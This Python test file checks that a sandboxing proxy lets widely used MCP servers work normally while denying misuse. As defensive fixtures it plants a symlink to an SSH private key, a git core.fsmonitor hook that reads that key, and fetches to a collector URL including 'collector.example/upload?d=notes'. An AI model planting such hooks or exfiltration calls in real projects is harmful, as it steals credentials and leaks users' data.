"""Widely used MCP servers, unmodified, under `mtguard proxy`: benign use works, misuse is denied.

The servers are the registries' own packages at pinned versions (scripts/setup-servers.sh
puts them in .servers/): `@modelcontextprotocol/server-filesystem` (npm), `mcp-server-git`
and `mcp-server-fetch` (PyPI, in their own venv so their dependencies never meet ours). The
official SDK client drives each through the proxy with the initialize handshake hosts use
today; every server runs in the sandbox, traced by eBPF. Each misuse is one a pre-audit
cannot see from the arguments alone, so its evidence has to come from the behavior tree.
"""

from __future__ import annotations

import http.server
import os
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

from mtguard_rt.eval.mcp_client import open_stdio_client
from mtguard_rt.model import AuditRecord
from tests.audit_records import call_records

from .conftest import MTGUARD, REPO

pytestmark = [
    pytest.mark.anyio, pytest.mark.docker, pytest.mark.bpf,
    pytest.mark.parametrize("anyio_backend", ["trio"]),  # slow real tests: one backend
]

SERVERS = REPO / ".servers"
FILESYSTEM_JS = SERVERS / "node/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js"
SANDBOX_HOME = "/home/mtguard"
SSH_KEY = f"{SANDBOX_HOME}/.ssh/id_rsa"
SANDBOX_UID = 1000
SETUP_TIMEOUT_S = 600  # a first install downloads two PyPI servers and one npm package
SESSION_TIMEOUT_S = 150  # sandbox start, server start and a handful of traced calls
PAGE = (b"<html><head><title>Guarded article</title></head><body><article>"
        b"<h1>Sandboxes for agents</h1><p>Every tool call runs in a container and is traced."
        b"</p></article></body></html>")


@pytest.fixture(scope="session")
def real_servers() -> Path:
    """Run the project's own set-up for the servers once (idempotent: stamps, pinned)."""
    try:
        done = subprocess.run([str(REPO / "scripts/setup-servers.sh")], capture_output=True,
                              text=True, timeout=SETUP_TIMEOUT_S, check=False)
    except subprocess.TimeoutExpired:
        pytest.fail(f"scripts/setup-servers.sh took over {SETUP_TIMEOUT_S} s")
    if done.returncode != 0:
        pytest.fail(f"scripts/setup-servers.sh failed:\n{done.stderr[-2000:]}")
    assert FILESYSTEM_JS.is_file() and (SERVERS / "py/bin/mcp-server-git").is_file()
    return SERVERS


def workspace(path: Path) -> Path:
    """A host directory the sandboxed server (uid 1000) owns, as a user's project would be."""
    path.mkdir(parents=True, exist_ok=True)
    for root, dirs, files in os.walk(path):
        for name in [root, *(os.path.join(root, n) for n in [*dirs, *files])]:
            os.lchown(name, SANDBOX_UID, SANDBOX_UID)
    return path


def records(path: Path) -> list[AuditRecord]:
    return call_records(path)


def text_of(result: dict[str, Any]) -> str:
    return "\n".join(c.get("text", "") for c in result.get("content", []))


def opened(record: AuditRecord) -> set[str]:
    assert record.tree is not None
    return {f.path for p in record.tree.processes for f in p.files if f.op == "open"}


def proxy_cmd(audit: Path, *flags: str, server: list[str]) -> list[str]:
    return [MTGUARD, "proxy", "--audit-log", str(audit), *flags, "--", *server]


async def test_filesystem_server_works_and_cannot_leak_the_ssh_key(
    real_servers: Path, tmp_path: Path
) -> None:
    ws = tmp_path / "project"
    ws.mkdir()
    (ws / "notes.txt").write_text("meeting at noon\n")
    os.symlink(SSH_KEY, ws / "old-notes.txt")  # dangling on the host, the key in the sandbox
    workspace(ws)
    audit = tmp_path / "audit.jsonl"
    cmd = proxy_cmd(audit, "--name", "filesystem", "--workspace", str(ws),
                    "--mount", str(real_servers / "node"), "--task", "tidy up my notes",
                    server=["node", str(FILESYSTEM_JS), str(ws), SANDBOX_HOME])
    with anyio.fail_after(SESSION_TIMEOUT_S):
        async with open_stdio_client(cmd, mode="legacy", request_timeout=90) as client:
            tools = {t["name"] for t in await client.list_tools()}
            assert {"read_text_file", "write_file", "list_directory"} <= tools
            read = await client.call_tool("read_text_file", {"path": str(ws / "notes.txt")})
            wrote = await client.call_tool("write_file", {"path": str(ws / "todo.txt"),
                                                          "content": "buy milk\n"})
            listing = await client.call_tool("list_directory", {"path": str(ws)})
            direct = await client.call_tool("read_text_file", {"path": SSH_KEY})
            linked = await client.call_tool("read_text_file", {"path": str(ws / "old-notes.txt")})
    # benign use is unchanged
    assert (read.get("isError"), text_of(read)) == (False, "meeting at noon\n")
    assert not wrote.get("isError") and (ws / "todo.txt").read_text() == "buy milk\n"
    assert {"[FILE] notes.txt", "[FILE] todo.txt"} <= set(text_of(listing).splitlines())
    # naming the key is stopped before the server sees it; a symlink to it after the read
    for result in (direct, linked):
        assert result["isError"] is True and text_of(result).startswith("mtguard denied")
        assert "MTGCANARY" not in text_of(result) and "PRIVATE KEY" not in text_of(result)
    recs = records(audit)
    by_args = {r.arguments.get("path"): r for r in recs if r.tool == "read_text_file"}
    assert [r.decision for r in recs if r.tool in ("write_file", "list_directory")] == [
        "allow", "allow"]
    assert by_args[str(ws / "notes.txt")].decision == "allow"
    assert str(ws / "notes.txt") in opened(by_args[str(ws / "notes.txt")])
    pre = by_args[SSH_KEY]
    assert (pre.decision, pre.phase, pre.tree) == ("deny", "pre", None)
    assert "sensitive-file-arg" in pre.rules
    post = by_args[str(ws / "old-notes.txt")]
    assert (post.decision, post.phase) == ("deny", "post")
    assert "canary-touched" in post.rules
    assert SSH_KEY in opened(post)  # what the node server really opened
    assert any(SSH_KEY in e for v in post.violations for e in v.evidence)


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-c", "safe.directory=*", "-C", str(repo), *args],
                          capture_output=True, text=True, check=True, timeout=30).stdout


def _repo(path: Path) -> Path:
    path.mkdir(parents=True)
    _git(path, "init", "-q", "-b", "main")
    _git(path, "config", "user.email", "dev@example.org")
    _git(path, "config", "user.name", "Dev")
    (path / "README.md").write_text("# Project\n")
    _git(path, "add", "README.md")
    _git(path, "commit", "-qm", "initial commit")
    return path


async def test_git_server_works_and_a_hostile_repo_config_is_caught(
    real_servers: Path, tmp_path: Path
) -> None:
    ws = tmp_path / "ws"
    repo = _repo(ws / "project")
    (repo / "README.md").write_text("# Project\n\nUsage: run it.\n")
    # A cloned repository whose config runs a command on every `git status` (core.fsmonitor):
    # nothing in the tool call mentions it.
    hostile = _repo(ws / "cloned")
    _git(hostile, "config", "core.fsmonitor", f"cat {SSH_KEY} >/dev/null; echo")
    workspace(ws)
    audit = tmp_path / "audit.jsonl"
    cmd = proxy_cmd(audit, "--name", "git", "--workspace", str(ws),
                    "--mount", str(real_servers / "py"),
                    "--task", "commit the README change in my repository",
                    server=[str(real_servers / "py/bin/mcp-server-git")])
    with anyio.fail_after(SESSION_TIMEOUT_S):
        async with open_stdio_client(cmd, mode="legacy", request_timeout=90) as client:
            tools = {t["name"] for t in await client.list_tools()}
            assert {"git_status", "git_add", "git_commit", "git_log"} <= tools
            status = await client.call_tool("git_status", {"repo_path": str(repo)})
            added = await client.call_tool("git_add", {"repo_path": str(repo),
                                                       "files": ["README.md"]})
            commit = await client.call_tool("git_commit", {"repo_path": str(repo),
                                                           "message": "Document usage"})
            log = await client.call_tool("git_log", {"repo_path": str(repo)})
            hostile_status = await client.call_tool("git_status", {"repo_path": str(hostile)})
    assert "modified:   README.md" in text_of(status)
    assert not added.get("isError") and not commit.get("isError")
    assert "Document usage" in text_of(log) and "initial commit" in text_of(log)
    assert _git(repo, "log", "-1", "--format=%s").strip() == "Document usage"  # really committed
    assert hostile_status["isError"] is True
    assert text_of(hostile_status).startswith("mtguard denied git_status")
    recs = records(audit)
    assert [r.decision for r in recs[:4]] == ["allow"] * 4
    bad = recs[4]
    assert (bad.tool, bad.decision, bad.phase) == ("git_status", "deny", "post")
    assert "unexpected-shell" in bad.rules
    assert bad.tree is not None
    argvs = [p.argv for p in bad.tree.processes]
    assert any(a[:1] == ["git"] and "status" in a for a in argvs)  # GitPython's git ...
    hook = [p for p in bad.tree.processes
            if p.parent in {q.key for q in bad.tree.processes if q.argv[:1] == ["git"]}
            and any(SSH_KEY in arg for arg in p.argv)]
    assert hook, argvs  # ... started the repo's fsmonitor hook, the command that reads the key
    # The guard may stop the hook's shell the moment it starts (online enforcement), before
    # the key is read; if the read happened, it is in the tree and the verdict.
    if SSH_KEY in opened(bad):
        assert "canary-touched" in bad.rules


class _Site(http.server.BaseHTTPRequestHandler):
    """/article.html is the page; /moved redirects to the collector (another address)."""

    collector = ""
    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(f"{self.server.server_address[0]}{self.path}")
        if self.path == "/moved":
            self.send_response(302)
            self.send_header("Location", f"{self.collector}/collect?page=moved")
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def site() -> Iterator[tuple[str, str, list[str]]]:
    """The task's site on 127.0.0.1 and a collector on 127.0.0.2 (both loopback)."""
    hits: list[str] = []
    handler = type("Handler", (_Site,), {"hits": hits})
    servers = [http.server.ThreadingHTTPServer((ip, 0), handler)
               for ip in ("127.0.0.1", "127.0.0.2")]
    urls = [f"http://{s.server_address[0]}:{s.server_address[1]}" for s in servers]
    handler.collector = urls[1]
    threads = [threading.Thread(target=s.serve_forever, daemon=True) for s in servers]
    for t in threads:
        t.start()
    try:
        yield urls[0], urls[1], hits
    finally:
        for s, t in zip(servers, threads, strict=True):
            s.shutdown()
            s.server_close()
            t.join(timeout=10)


async def test_fetch_server_reads_the_task_page_and_off_task_fetches_are_flagged(
    real_servers: Path, tmp_path: Path, site: tuple[str, str, list[str]]
) -> None:
    page, collector, hits = site
    task = f"Summarise the article at {page}/article.html"
    audit = tmp_path / "audit.jsonl"
    # --ignore-robots-txt and --allow-private-ips: the server's documented switches for an
    # offline loopback site.
    cmd = proxy_cmd(audit, "--name", "fetch", "--network", "host",
                    "--mount", str(real_servers / "py"),
                    server=[str(real_servers / "py/bin/mcp-server-fetch"), "--ignore-robots-txt",
                            "--allow-private-ips"])
    meta = {"mtguard/task": task}
    # raw: the tool's documented switch for the page as it is. Simplified pages go through
    # readabilipy, which runs Node when it finds it (and on first use `npm install` from the
    # registry): the guard rightly denies that as an unexpected interpreter and network.
    raw = {"raw": True}
    with anyio.fail_after(SESSION_TIMEOUT_S):
        async with open_stdio_client(cmd, mode="legacy", request_timeout=90) as client:
            assert [t["name"] for t in await client.list_tools()] == ["fetch"]
            good = await client.call_tool("fetch", {"url": f"{page}/article.html", **raw},
                                          meta=meta)
            off_task = await client.call_tool(
                "fetch", {"url": "http://collector.example/upload?d=notes"}, meta=meta)
            redirected = await client.call_tool("fetch", {"url": f"{page}/moved", **raw},
                                                meta=meta)
    assert not good.get("isError")
    assert "<h1>Sandboxes for agents</h1>" in text_of(good)
    assert "Every tool call runs in a container" in text_of(good)
    for result in (off_task, redirected):
        assert result["isError"] is True and text_of(result).startswith("mtguard denied fetch")
    ok, pre, post = call_records(audit)
    assert (ok.decision, ok.rules) == ("allow", [])
    page_port = int(page.rsplit(":", 1)[1])
    assert ok.tree is not None
    assert any(n.address == "127.0.0.1" and n.port == page_port
               for p in ok.tree.processes for n in p.net)
    # a domain the task never mentioned: flagged before dispatch
    assert (pre.decision, pre.phase, pre.rules, pre.tree) == ("deny", "pre", ["off-task-url"], None)
    # the task's own page redirecting elsewhere: only the tree shows it
    assert (post.decision, post.phase) == ("deny", "post")
    assert "unexpected-network" in post.rules
    target = collector.removeprefix("http://")
    assert post.tree is not None
    assert any(f"{n.address}:{n.port}" == target for p in post.tree.processes for n in p.net)
    assert any(target in e for v in post.violations for e in v.evidence)
    # the redirect was served; the connect to the collector (another loopback address, not
    # allowed) is killed online, before or after its request reaches it: the result is withheld
    assert "127.0.0.1/moved" in hits
